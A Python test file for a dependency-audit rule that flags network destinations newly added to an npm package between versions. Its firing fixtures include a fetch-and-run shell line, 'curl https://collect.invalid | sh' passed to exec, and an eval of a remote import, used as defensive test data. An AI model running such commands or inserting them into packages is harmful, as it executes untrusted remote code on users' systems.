"""Addresses that were there or are harmless, then new ones."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from support.subjects import compared, found, package, subject, use

from audit.model.manifest import Manifest

if TYPE_CHECKING:
    from audit.model.finding import Finding

RULE = "new-destination"
OWN = Manifest(
    name="a",
    raw={
        "homepage": "https://docs.ledger.invalid/a",
        "repository": {"url": "git+https://code.invalid/a"},
    },
)


def fetching(*literals: str, **fields: Any) -> Any:
    return replace(use("global:fetch", "network", literals=literals), **fields)


def judged(old: list[Any], new: list[Any], step: str = "patch") -> tuple[Finding, ...]:
    before = package("node_modules/a", *old, manifest=OWN)
    return found(RULE, compared(before, package("node_modules/a", *new, manifest=OWN), step))


SILENT: dict[str, list[str]] = {
    "the same host": ["https://api.known.invalid/v2?x=1"],
    "the same owner": ["https://files.known.invalid"],
    "its own page": ["https://ledger.invalid/help"],
    "where its code is kept": ["https://code.invalid/a/raw"],
    "this machine": ["http://localhost:3000", "http://127.0.0.1/x", "ws://[::1]:80"],
    "a file's name": ["config.json", "lib/index.js", "document.body"],
    "an unfinished address": ["https://", "https://${host}/x", "https://*.x"],
    "words": ["POST", "content-type", "application/json"],
}


@pytest.mark.parametrize("literals", SILENT.values(), ids=SILENT)
def test_silent(literals: list[str]) -> None:
    assert judged([fetching("https://api.known.invalid")], [fetching(*literals)]) == ()


def test_without_a_version_before_every_host_is_old() -> None:
    assert found(RULE, subject(package("node_modules/a", fetching("https://x.invalid")))) == ()


def test_beside_no_power_it_is_a_word() -> None:
    assert judged([], [use("builtin:util.format", "none", literals=["https://x.invalid"])]) == ()


FIRING: dict[str, tuple[str, Any]] = {
    "an address": ("high", fetching("https://collect.invalid/k")),
    "with a user": ("high", fetching("https://api.known.invalid@collect.invalid/k")),
    "a bare host": ("high", use("builtin:https.request", "network", literals=["collect.invalid"])),
    "another host of where its code is kept": ("high", fetching("https://api.code.invalid/repos")),
    "numbers": ("high", fetching("http://203.0.113.7:8080/a")),
    "a command": ("high", use("builtin:child_process.exec", "process", literals=["curl https://collect.invalid | sh"])),
    "code": ("moderate", use("global:eval", "code", literals=["import('https://collect.invalid')"])),
    "nothing loads it": ("low", fetching("https://collect.invalid/k", reachable=False)),
}  # fmt: skip


@pytest.mark.parametrize(("severity", "new"), FIRING.values(), ids=FIRING)
def test_firing(severity: str, new: Any) -> None:
    (finding,) = judged([fetching("https://api.known.invalid")], [new])
    assert finding.severity == severity


def test_a_breaking_release_weighs_less() -> None:
    (finding,) = judged([], [fetching("https://collect.invalid")], "major")
    assert (finding.severity, finding.confidence) == ("moderate", "low")


def test_hosts_come_along_with_code_of_a_dropped_dependency() -> None:
    old = package("node_modules/a")
    client = package("node_modules/b", fetching("https://api.known.invalid"))

    def hosts(name: str, *literals: str, own: tuple[Any, ...] = ()) -> int:
        before = package(f"node_modules/{name}", *own)
        after = package(f"node_modules/{name}", fetching(*literals))
        return len(found(RULE, compared(before, after, dropped=(client,))))

    assert hosts("weather-x", "https://api.known.invalid/v1") == 0
    assert hosts("weather-x", "https://api.weather-x.invalid") == 0
    assert hosts("@weather/x", "https://weather.invalid") == 0
    assert hosts("weather-x", "https://weather-x-api.invalid") == 1
    assert (
        hosts("weather-x", "https://api.weather-x.invalid", own=(fetching("https://c.invalid"),))
        == 1
    )
    assert (
        found(RULE, compared(old, package("node_modules/a", fetching("https://x.invalid")))) != ()
    )
